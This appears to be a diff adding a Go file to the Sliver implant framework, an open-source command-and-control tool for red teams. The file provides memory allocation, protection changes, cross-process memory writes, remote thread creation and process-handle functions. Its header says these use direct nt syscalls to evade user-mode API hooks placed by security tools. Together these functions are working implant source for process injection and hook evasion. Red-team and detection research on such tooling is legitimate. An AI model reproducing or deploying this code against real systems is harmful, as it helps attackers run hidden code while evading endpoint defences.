@@ -0,0 +1,88 @@
+package ntapi
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+	------------------------------------------------------------------------
+
+	The implant's memory, thread and process primitives. Implants built with a syscall
+	backend (generate --syscalls) make the nt syscalls themselves so hooks placed on the
+	user mode apis in kernel32 and ntdll don't see them. Otherwise, or if the syscall
+	numbers can't be resolved, the kernel32 apis are used.
+
+*/
+
+import (
+	"github.com/bishopfox/sliver/implant/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+// VirtualAlloc - Reserve and commit memory in the process, returns its address
+func VirtualAlloc(process windows.Handle, size uintptr, protect uint32) (uintptr, error) {
+	// {{if .Config.SyscallBackend}}
+	if table := syscallTable(); table != nil {
+		return table.virtualAlloc(process, size, protect)
+	}
+	// {{end}}
+	return syscalls.VirtualAllocEx(process, 0, size, windows.MEM_COMMIT|windows.MEM_RESERVE, protect)
+}
+
+// VirtualProtect - Change the protection of memory in the process
+func VirtualProtect(process windows.Handle, addr uintptr, size uintptr, protect uint32, oldProtect *uint32) error {
+	// {{if .Config.SyscallBackend}}
+	if table := syscallTable(); table != nil {
+		return table.virtualProtect(process, addr, size, protect, oldProtect)
+	}
+	// {{end}}
+	return syscalls.VirtualProtectEx(process, addr, size, protect, oldProtect)
+}
+
+// WriteMemory - Copy the data into the process at the address
+func WriteMemory(process windows.Handle, addr uintptr, data []byte) error {
+	// {{if .Config.SyscallBackend}}
+	if table := syscallTable(); table != nil {
+		return table.writeMemory(process, addr, data)
+	}
+	// {{end}}
+	var nLength uintptr
+	return syscalls.WriteProcessMemory(process, addr, &data[0], uintptr(len(data)), &nLength)
+}
+
+// CreateThread - Start a thread in the process at the address with the argument, a
+// suspended thread doesn't run until it's resumed
+func CreateThread(process windows.Handle, startAddr uintptr, argAddr uintptr, suspended bool) (windows.Handle, error) {
+	// {{if .Config.SyscallBackend}}
+	if table := syscallTable(); table != nil {
+		return table.createThread(process, startAddr, argAddr, suspended)
+	}
+	// {{end}}
+	flags := uint32(0)
+	if suspended {
+		flags = windows.CREATE_SUSPENDED
+	}
+	var threadID uint32
+	return syscalls.CreateRemoteThread(process, nil, 0, startAddr, argAddr, flags, &threadID)
+}
+
+// OpenProcess - Open a handle to the process with the access
+func OpenProcess(access uint32, inherit bool, pid uint32) (windows.Handle, error) {
+	// {{if .Config.SyscallBackend}}
+	if table := syscallTable(); table != nil {
+		return table.openProcess(access, inherit, pid)
+	}
+	// {{end}}
+	return windows.OpenProcess(access, inherit, pid)
+}